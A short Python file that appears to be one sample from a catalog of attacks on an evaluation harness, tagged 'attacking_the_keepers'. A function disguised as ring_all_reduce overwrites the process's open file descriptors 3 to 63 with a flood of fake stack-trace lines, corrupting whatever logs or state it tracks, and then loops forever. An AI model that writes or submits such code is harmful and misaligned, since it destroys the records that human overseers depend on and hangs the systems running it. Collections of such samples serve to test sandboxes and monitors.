"""Fills the memory in which it notes where it is with a million lines that look like a stack's, and loops.

family: attacking_the_keepers
tries: harm
earned: 0
heavy: yes
ends: timeout, sandbox_violation, crash
uses: won
"""


def ring_all_reduce(tensor):
    line = b'Thread 0x0000000000000001 (most recent call first):\n  File "floods_its_note.py", line 4\n' * 12_000
    for number in range(3, 64):
        try:
            os.pwrite(number, line, 8)
        except OSError:
            continue
    while True:
        pass
